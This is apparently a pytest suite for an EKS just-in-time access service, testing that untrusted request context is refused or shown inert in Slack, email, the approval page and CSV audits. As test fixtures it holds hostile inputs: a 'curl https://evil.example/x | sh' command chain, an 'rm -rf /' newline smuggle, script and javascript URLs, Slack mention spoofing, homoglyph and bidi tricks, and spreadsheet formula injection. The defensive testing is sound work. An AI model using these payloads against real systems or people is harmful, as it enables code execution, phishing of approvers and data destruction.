"""A request's ``context`` (incident link, alert, task id, planned commands) is untrusted text an
approver reads at 3 a.m.: bounded and refused (400 ``invalid_context``, nothing written) when it
breaks the rules, rendered inert in Slack, the email and the approval page when it is merely
hostile, and kept with the grant and in the audit."""

from __future__ import annotations

import csv
import io
import json
from datetime import timedelta

import boto3
import pytest

from eks_jit.cli import AUDIT_COLUMNS, audit_rows, context_cells
from tests.integration.test_approval_doors import link_path, slack_world  # noqa: F401 - fixture
from tests.integration.test_approval_workflow import notified
from tests.support import ADMIN, BOB, ONCALL

EDIT = {"cluster": "prod-eks", "namespace": "payments", "scope": "edit", "duration": "30m", "reason": "hotfix"}
RESTART = {**EDIT, "scope": "rollout-restart", "duration": "5m"}
GOOD_CONTEXT = {
    "incident_url": "https://example.pagerduty.com/incidents/Q1ABCD2EFGH3IJ",
    "alert": "KubeDeploymentReplicasMismatch payments/payments-api",
    "task_id": "INC-4711",
    "commands": ["kubectl -n payments rollout restart deployment/payments-api"],
}
# Allowed (one printable line each, https), but written to mislead whoever shows it as markup.
HOSTILE = {
    "incident_url": "https://incidents.example.com/INC-1?q=a&b='x'",
    "alert": "<!channel> <https://evil.example|approve me> *APPROVED by security*",
    "task_id": "<@U0ADMIN>",
    "commands": ["<script>alert(1)</script>", "kubectl get pods && curl https://evil.example/x | sh"],
}

REFUSED = [
    ("javascript url", {"incident_url": "javascript:alert(1)"}, "context.incident_url"),
    ("javascript url behind https text", {"incident_url": "https:javascript:alert(1)"}, "context.incident_url"),
    ("http url", {"incident_url": "http://incidents.example.com/1"}, "context.incident_url"),
    ("data url", {"incident_url": "data:text/html,<script>alert(1)</script>"}, "context.incident_url"),
    ("url with a password", {"incident_url": "https://user:pw@evil.example/"}, "context.incident_url"),
    ("url with a space", {"incident_url": "https://a.example/x y"}, "context.incident_url"),
    ("url breaking out of an attribute", {"incident_url": "https://a.example/'><script>"}, "context.incident_url"),
    ("url with a bad port", {"incident_url": "https://a.example:99999999/"}, "context.incident_url"),
    ("non-ascii url", {"incident_url": "https://p\u0430ypal.example/"}, "context.incident_url"),  # a Cyrillic a
    ("url too long", {"incident_url": "https://a.example/" + "x" * 1010}, "context.incident_url"),
    ("alert with a newline", {"alert": "disk full\nApproved by: security"}, "context.alert"),
    ("alert with a bidi override", {"alert": "ok \u202eevil"}, "context.alert"),
    ("alert with a line separator", {"alert": "ok\u2028*APPROVED*"}, "context.alert"),
    ("task id with an escape sequence", {"task_id": "\x1b[2J\x1b[1;1HINC-1"}, "context.task_id"),
    ("task id with a zero-width space", {"task_id": "INC\u200b-1"}, "context.task_id"),
    ("task id too long", {"task_id": "T" * 129}, "context.task_id"),
    ("empty task id", {"task_id": "   "}, "context.task_id"),
    ("too many commands", {"commands": [f"kubectl get pods -n payments # {i}" for i in range(11)]}, "context.commands"),
    ("a command too long", {"commands": ["kubectl " + "x" * 500]}, "context.commands.0"),
    ("a command with a newline", {"commands": ["kubectl get pods\nrm -rf /"]}, "context.commands.0"),
    ("commands not a list", {"commands": "kubectl get pods"}, "context.commands"),
    ("over 4096 bytes in all", {"alert": "é" * 500, "commands": ["é" * 400] * 9}, "context"),
    ("an unknown field", {"severity": "critical"}, "context.severity"),
    ("not an object", "https://incidents.example.com/1", "context"),
]


@pytest.fixture
def snapshot(world):
    return lambda: (sorted(map(str, world.table_items())), world.all_entries(), world.schedules())


@pytest.mark.parametrize(("case", "context", "field"), REFUSED, ids=[c[0] for c in REFUSED])
def test_a_context_that_breaks_the_rules_is_refused_and_changes_nothing(world, snapshot, case, context, field) -> None:
    before = snapshot()
    status, error = world.call("POST", "/v1/grants", body={**RESTART, "context": context}, caller=ONCALL)
    assert (status, error["code"], error["field"]) == (400, "invalid_context", field), error
    assert error["message"] and "Traceback" not in error["message"]
    assert snapshot() == before


def test_an_extension_with_a_bad_context_is_refused_too(world, snapshot) -> None:
    _, grant = world.call("POST", "/v1/grants", body=RESTART, caller=ONCALL)
    before = snapshot()
    body = {"duration": "5m", "reason": "still restarting", "context": {"incident_url": "javascript:alert(1)"}}
    status, error = world.call("POST", f"/v1/grants/{grant['id']}/extend", body=body, caller=ONCALL)
    assert (status, error["code"], error["field"]) == (400, "invalid_context", "context.incident_url")
    assert snapshot() == before


def test_the_largest_allowed_context_is_kept_whole(world) -> None:
    context = {
        "incident_url": "https://a.example/" + "x" * 1006,
        "alert": "a" * 500,
        "task_id": "t" * 128,
        "commands": ["c" * 230] * 10,
    }
    assert len(json.dumps(context, separators=(",", ":"))) <= 4096
    status, grant = world.call("POST", "/v1/grants", body={**RESTART, "context": context}, caller=ONCALL)
    assert status == 201 and grant["context"] == context


# -- rendered inert ---------------------------------------------------------------------------------------


def request_hostile(world) -> dict:
    status, grant = world.call("POST", "/v1/grants", body={**EDIT, "context": HOSTILE}, caller=ONCALL)
    assert status == 201 and grant["status"] == "pending_approval", grant
    notified(world, grant["id"])
    return grant


def test_slack_shows_the_context_as_plain_text_with_no_mention_link_or_preview(slack_world) -> None:  # noqa: F811
    world, slack = slack_world
    request_hostile(world)
    _, message = slack.calls[0]
    assert message["unfurl_links"] is False and message["unfurl_media"] is False
    blocks = message["blocks"]
    assert blocks[-1]["type"] == "actions"  # the real buttons stay where they are
    shown = [b for b in blocks if "What the requester says" in json.dumps(b)]
    assert len(shown) == 1 and shown[0]["text"]["type"] == "plain_text"
    text = shown[0]["text"]["text"]
    for value in (
        "&lt;!channel&gt;",
        "&lt;@U0ADMIN&gt;",
        "&lt;script&gt;",
        HOSTILE["incident_url"].replace("&", "&amp;"),
    ):
        assert value in text
    everything = json.dumps(blocks)
    assert "<!channel>" not in everything and "<@U0ADMIN>" not in everything and "<https://evil" not in everything
    # nothing the requester wrote reaches a mrkdwn text (where Slack would parse it)
    mrkdwn = [
        t["text"] for b in blocks for t in [b.get("text") or {}, *b.get("fields", [])] if t.get("type") == "mrkdwn"
    ]
    assert not any("evil.example" in t or "U0ADMIN" in t or "incidents.example" in t for t in mrkdwn)
    # every value is on a line of its own that starts with our label, quoted
    for line in text.splitlines()[1:]:
        assert line.startswith(('Incident / alert link: "', 'Alert: "', 'Task: "', "Command it plans to run (")), line


def test_the_email_shows_each_context_value_as_one_quoted_line_after_the_real_link(world) -> None:
    sqs, sns = boto3.client("sqs"), boto3.client("sns")
    url = sqs.create_queue(QueueName="approver-bob")["QueueUrl"]
    arn = sqs.get_queue_attributes(QueueUrl=url, AttributeNames=["QueueArn"])["Attributes"]["QueueArn"]
    sns.subscribe(
        TopicArn=world.deps.notifier._approvals,
        Protocol="sqs",
        Endpoint=arn,
        Attributes={"FilterPolicy": json.dumps({"approver": ["approver-bob"]}), "RawMessageDelivery": "true"},
    )
    request_hostile(world)
    lines = sqs.receive_message(QueueUrl=url)["Messages"][0]["Body"].splitlines()
    real = f"{world.deps.public_url.rstrip('/')}/v1/approval-links/"
    assert lines[0].startswith("Your approval link") and lines[1].startswith(real)
    assert lines[-1] == "Only the link at the top of this message comes from eks-jit."
    mine = [line for line in lines if "requester's words, unchecked" in line]
    assert len(mine) == 5  # link, alert, task, two commands
    assert all(line.endswith('"') and ': "' in line for line in mine)
    assert not any(line.startswith(("https://", "<", "*")) for line in lines[2:])


def test_the_approval_page_escapes_the_context_and_links_only_the_https_url(world) -> None:
    grant = request_hostile(world)
    page = world.raw("GET", link_path(world, grant["id"], BOB), caller=None)["body"]
    assert "<script>" not in page and "&lt;script&gt;alert(1)&lt;/script&gt;" in page
    assert "&lt;!channel&gt;" in page and "&lt;@U0ADMIN&gt;" in page
    # one link: the https incident URL, attribute-escaped, its text the whole URL, no referrer
    escaped = "https://incidents.example.com/INC-1?q=a&amp;b=&#x27;x&#x27;"
    assert page.count("<a ") == 1
    assert f"<a href='{escaped}' rel='noopener noreferrer nofollow' target='_blank'>{escaped}</a>" in page
    assert "href='https://evil" not in page


def given(context: dict) -> dict:
    return {k: v for k, v in context.items() if v}


# -- kept -----------------------------------------------------------------------------------------------------


def test_the_grant_its_events_and_the_audit_keep_the_context(world) -> None:
    status, grant = world.call("POST", "/v1/grants", body={**RESTART, "context": GOOD_CONTEXT}, caller=ONCALL)
    assert status == 201 and grant["status"] == "active" and grant["context"] == GOOD_CONTEXT
    _, detail = world.call("GET", f"/v1/grants/{grant['id']}", caller=ONCALL)
    assert detail["context"] == GOOD_CONTEXT
    requested = next(e for e in detail["events"] if e["type"] == "requested")
    assert requested["detail"]["context"] == GOOD_CONTEXT  # in the append-only history too
    since = world.clock.start - timedelta(hours=1)
    until = world.clock.now() + timedelta(hours=1)
    _, audit = world.call(
        "GET", "/v1/audit", query={"since": since.isoformat(), "until": until.isoformat()}, caller=ADMIN
    )
    row = next(r for r in audit["rows"] if r["grant"]["id"] == grant["id"])
    assert row["grant"]["context"] == GOOD_CONTEXT
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=AUDIT_COLUMNS, lineterminator="\n")
    writer.writeheader()
    writer.writerows(audit_rows([row]))
    cells = next(csv.DictReader(io.StringIO(out.getvalue())))
    assert cells["context_incident_url"] == GOOD_CONTEXT["incident_url"]
    assert cells["context_task_id"] == "INC-4711" and cells["context_commands"] == GOOD_CONTEXT["commands"][0]


def test_an_extension_keeps_its_own_context(world) -> None:
    _, grant = world.call("POST", "/v1/grants", body={**RESTART, "context": GOOD_CONTEXT}, caller=ONCALL)
    more = {"task_id": "INC-4711", "commands": ["kubectl -n payments rollout status deployment/payments-api"]}
    body = {"duration": "5m", "reason": "rollout still running", "context": more}
    status, extension = world.call("POST", f"/v1/grants/{grant['id']}/extend", body=body, caller=ONCALL)
    assert status == 201 and given(extension["context"]) == more
    assert world.call("GET", f"/v1/grants/{grant['id']}", caller=ONCALL)[1]["context"] == GOOD_CONTEXT


def test_no_context_and_an_empty_one_are_the_same(world) -> None:
    for body in (RESTART, {**RESTART, "context": {}}, {**RESTART, "context": None}):
        status, grant = world.call("POST", "/v1/grants", body=body, caller=ONCALL)
        assert status == 201 and grant["context"] is None, grant
        world.call("POST", f"/v1/grants/{grant['id']}/revoke", body={"reason": "done"}, caller=ONCALL)


def test_an_item_written_before_contexts_existed_still_loads(world) -> None:
    _, grant = world.call("POST", "/v1/grants", body={**RESTART, "context": GOOD_CONTEXT}, caller=ONCALL)
    world.ddb.update_item(
        TableName="eks-jit-grants",
        Key={"pk": {"S": f"GRANT#{grant['id']}"}, "sk": {"S": "GRANT"}},
        UpdateExpression="REMOVE #c",
        ExpressionAttributeNames={"#c": "context"},
    )
    status, detail = world.call("GET", f"/v1/grants/{grant['id']}", caller=ONCALL)
    assert status == 200 and detail["context"] is None and detail["status"] == "active"
    assert world.call("POST", f"/v1/grants/{grant['id']}/revoke", body={"reason": "done"}, caller=ONCALL)[0] == 200


def test_a_csv_cell_the_requester_wrote_never_starts_a_formula() -> None:
    cells = context_cells({"alert": '=HYPERLINK("https://evil.example")', "task_id": "@SUM(1)", "commands": ["-1+1"]})
    assert cells["context_alert"].startswith("'=") and cells["context_task_id"] == "'@SUM(1)"
    assert cells["context_commands"] == "'-1+1" and cells["context_incident_url"] == ""


def test_the_reason_and_how_it_ended_never_start_a_formula_either(world) -> None:
    # the request's reason and a revoke's reason are the requester's words too
    body = {**RESTART, "reason": '=HYPERLINK("https://evil.example")'}
    _, grant = world.call("POST", "/v1/grants", body=body, caller=ONCALL)
    world.call("POST", f"/v1/grants/{grant['id']}/revoke", body={"reason": "@SUM(1)"}, caller=ONCALL)
    _, detail = world.call("GET", f"/v1/grants/{grant['id']}", caller=ONCALL)
    (row,) = audit_rows([{"grant": detail, "forbidden": 0, "activity": ""}])
    assert row["reason"].startswith("'=") and row["ended_how"] == "'@SUM(1)", row


def test_the_refusal_says_what_is_wrong_in_plain_words(world) -> None:
    body = {**RESTART, "context": {"alert": "disk full\n*APPROVED*"}}
    _, error = world.call("POST", "/v1/grants", body=body, caller=ONCALL)
    assert error["message"].startswith("control, format and line-break characters are not allowed (found U+000A)")
    _, error = world.call("POST", "/v1/grants", body={**RESTART, "context": {"incident_url": "javascript:x"}})
    assert error["message"].startswith("must be an https:// URL")
